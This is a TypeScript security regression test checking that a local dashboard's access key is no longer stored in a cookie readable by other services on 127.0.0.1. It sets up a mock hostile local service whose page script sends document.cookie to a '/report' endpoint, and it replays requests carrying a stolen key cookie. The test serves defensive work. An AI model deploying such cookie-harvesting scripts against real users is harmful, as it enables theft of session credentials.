/**
 * The dashboard's key reaching other local services (issue 15, item 2). After `/?k=KEY` the
 * dashboard kept the key in a cookie for 127.0.0.1; cookies ignore ports (RFC 6265 §8.5), so
 * the browser sent it to every other service on 127.0.0.1, whose server (or page) could read it
 * and then drive the dashboard without a browser. Now the key lives only in the page (a meta
 * tag, a header its script sends, this tab's sessionStorage), never in a cookie. A real
 * Chromium opens the printed address, then a page of another local service; that service must
 * see no key, while the dashboard keeps working (a change through htmx, a reload).
 */
import { after, before, describe, it } from "node:test";
import assert from "node:assert/strict";
import { createServer, type IncomingHttpHeaders, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { Browser } from "playwright-core";
import {
  type Dashboard,
  launchChromium,
  removeHome,
  startServe,
  tempHome,
} from "../http/e2e-helpers.ts";
import { rawRequest } from "./raw-http.ts";

const SLOW = { timeout: 60_000 };

describe("attacks: the dashboard key and other local services (issue 15, item 2)", () => {
  let home: string;
  let serve: Dashboard;
  let browser: Browser;
  let other: Server;
  let otherOrigin: string;
  /** Every request the other local service got: its headers, and what its page read. */
  const seen: { url: string; headers: IncomingHttpHeaders }[] = [];

  before(async () => {
    home = await tempHome();
    serve = await startServe(home);
    // Another service on 127.0.0.1 (any port): its page reports document.cookie back to it.
    other = createServer((req, res) => {
      seen.push({ url: req.url ?? "", headers: req.headers });
      res.setHeader("content-type", "text/html");
      res.end(
        `<!doctype html><title>other</title><script>fetch("/report?c=" + encodeURIComponent(document.cookie));</script>`,
      );
    });
    await new Promise<void>((r) => other.listen(0, "127.0.0.1", () => r()));
    otherOrigin = `http://127.0.0.1:${(other.address() as AddressInfo).port}`;
    browser = await launchChromium();
  }, SLOW);

  after(async () => {
    await browser?.close();
    await new Promise<void>((r) => other ? other.close(() => r()) : r());
    await serve?.stop();
    await removeHome(home);
  }, SLOW);

  it(
    "after the dashboard was opened, another port of 127.0.0.1 gets no key (header or document.cookie)",
    SLOW,
    async () => {
      const context = await browser.newContext();
      try {
        const page = await context.newPage();
        const response = await page.goto(serve.url);
        assert.equal(response?.status(), 200);
        await page.waitForURL(`${serve.origin}/`, { timeout: 5_000 });

        const visit = await context.newPage();
        await visit.goto(`${otherOrigin}/page`);
        await visit.waitForFunction(() => true);
        for (let i = 0; i < 50 && !seen.some((s) => s.url.startsWith("/report")); i++) {
          await visit.waitForTimeout(50);
        }
        assert.ok(seen.some((s) => s.url.startsWith("/report")), "the page ran");
        for (const s of seen) {
          const text = JSON.stringify(s);
          assert.ok(!text.includes(serve.key), `the other service got the key: ${text}`);
        }
        assert.deepEqual(await context.cookies(), [], "the dashboard set no cookie");

        // The dashboard still works: an htmx change carries the key in its header…
        await page.locator('form[hx-post="/servers"] input[name="name"]').fill("keytest");
        await page.locator('form[hx-post="/servers"] input[name="url"]').fill(
          "https://mcp.example.com/mcp",
        );
        await page.getByRole("button", { name: "Add server" }).click();
        await page.locator('tbody[data-server="keytest"]').waitFor({ timeout: 10_000 });
        // …and a reload of this tab comes back in (the tab's own storage), without the address.
        await page.reload();
        await page.locator('tbody[data-server="keytest"]').waitFor({ timeout: 10_000 });
        assert.equal(page.url(), `${serve.origin}/`);
      } finally {
        await context.close();
      }
    },
  );

  it("the key in a cookie opens nothing; the printed address sets no cookie", async () => {
    const port = Number(new URL(serve.origin).port);
    const host = `127.0.0.1:${port}`;
    const opened = await rawRequest(port, {
      target: `/?k=${serve.key}`,
      headers: [["Host", host]],
    });
    assert.equal(opened.status, 200);
    assert.deepEqual(opened.setCookies, [], "a cookie would go to every port of 127.0.0.1");
    // A non-browser client that stole a cookie (the old way of keeping the key) gets nowhere.
    for (const path of ["/", "/s/a2V5dGVzdA/row", "/s/a2V5dGVzdA/trace"]) {
      const res = await rawRequest(port, {
        target: path,
        headers: [["Host", host], ["Cookie", `mcp_oauth_key=${serve.key}`]],
      });
      assert.equal(res.status, 401, `${path} with the key in a cookie: ${res.status}`);
    }
    const post = await rawRequest(port, {
      method: "POST",
      target: "/s/a2V5dGVzdA/remove",
      headers: [
        ["Host", host],
        ["Origin", `http://${host}`],
        ["Cookie", `mcp_oauth_key=${serve.key}`],
        ["Content-Type", "application/x-www-form-urlencoded"],
      ],
      body: "",
    });
    assert.equal(post.status, 401);
  });
});
